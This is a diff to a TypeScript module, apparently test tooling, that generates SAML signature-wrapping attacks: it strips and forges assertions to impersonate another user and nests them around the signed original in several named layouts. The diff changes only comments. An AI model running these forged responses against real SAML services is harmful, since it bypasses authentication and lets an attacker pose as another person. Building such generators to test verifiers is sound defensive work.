@@ -1,16 +1,16 @@
-/** Ways to keep a signature valid over what it signed and have something else read (Somorovsky et al., On Breaking SAML, 2012). */
+/** Makes attacks that keep a signature valid but have other content read (signature wrapping; Somorovsky et al., On Breaking SAML, 2012). */
 const assertionIn = (xml: string): string => /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml)?.[0] ?? '';
 const signatureIn = (xml: string): string => /<Signature [\s\S]*<\/Signature>/.exec(xml)?.[0] ?? '';
 
 export const withoutSignature = (xml: string): string => xml.replace(signatureIn(xml), '');
 
-/** An assertion of the attacker's own: unsigned, of another identifier, about somebody else. */
+/** Returns an attacker's assertion: unsigned, with another identifier, about another person. */
 const forged = (assertion: string, person: string, wanted: string): string =>
   withoutSignature(assertion)
     .replace(/\bID="[^"]+"/, 'ID="_forged"')
     .replaceAll(person, wanted);
 
-/** What stands where the assertion stood. */
+/** Returns the XML that replaces the assertion. */
 type Wrap = (parts: { signed: string; evil: string; signature: string; bare: string }) => string;
 
 const wraps: Record<string, Wrap> = {
@@ -30,7 +30,7 @@ const wraps: Record<string, Wrap> = {
     `${evil}<samlp:Extensions><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">${signed}</samlp:Response></samlp:Extensions>`,
 };
 
-/** Each makes of a signed response about a person one that would let in another. */
+/** The attacks by name: each changes a signed response about one person so that it would let in another. */
 export const variants: Record<string, (xml: string, person: string, wanted: string) => string> = Object.fromEntries(
   Object.entries(wraps).map(([name, wrap]) => [
     name,
